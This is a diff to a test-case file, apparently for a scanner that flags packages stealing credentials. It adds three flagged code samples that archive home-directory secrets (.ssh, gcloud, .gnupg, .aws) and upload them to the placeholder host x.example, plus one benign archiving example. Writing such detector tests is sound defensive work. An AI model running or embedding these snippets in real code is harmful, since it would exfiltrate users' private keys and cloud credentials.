@@ -308,6 +308,18 @@ export default defineCases({
       manifest: { type: 'module', bin: 'index.js' },
       code: "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nconst token = readFileSync(homedir() + '/.cache/huggingface/token', 'utf8');\nawait fetch('https://huggingface.co/api/whoami', { headers: { authorization: token } });",
     },
+    {
+      name: 'folders of keys, packed into a request',
+      code: "const tar = require('tar'), os = require('os'), https = require('https');\nconst req = https.request('https://x.example', { method: 'PUT' });\ntar.c({ gzip: true, cwd: os.homedir() }, ['.ssh', '.config/gcloud']).pipe(req)",
+    },
+    {
+      name: 'an archive of keys that is read where it lies',
+      code: "const archiver = require('archiver'), fs = require('fs'), os = require('os');\nconst file = os.tmpdir() + '/a.zip';\nconst archive = archiver('zip');\nconst out = fs.createWriteStream(file);\nout.on('close', () => fetch('https://x.example', { method: 'POST', body: fs.readFileSync(file) }));\narchive.pipe(out); archive.directory(os.homedir() + '/.gnupg', false); archive.finalize()",
+    },
+    {
+      name: 'an archive that is made in memory',
+      code: "const Zip = require('adm-zip'), os = require('os');\nconst zip = new Zip(); zip.addLocalFolder(os.homedir() + '/.aws');\nfetch('https://x.example', { method: 'POST', body: zip.toBuffer() })",
+    },
   ],
   ok: [
     {
@@ -510,6 +522,10 @@ export default defineCases({
     {
       name: 'a client configured by a schema',
       code: "const { z } = require('zod');\nconst env = z.object({ KEY: z.string(), URL: z.string() }).parse(process.env);\nexports.post = (b) => fetch(env.URL, { method: 'POST', headers: { key: env.KEY }, body: JSON.stringify(b) })",
+    },
+    {
+      name: 'an archive of a project without what is its own',
+      code: "const archiver = require('archiver'), fs = require('fs');\nexports.pack = (dir, file) => { const archive = archiver('zip'); archive.pipe(fs.createWriteStream(file)); archive.glob('**/*', { cwd: dir, dot: true, ignore: ['.env', '.npmrc', '.ssh/**'] }); return archive.finalize() };\nexports.send = (file) => fetch('https://api.x.example', { method: 'POST', body: fs.readFileSync(file) })",
     },
   ],
 });
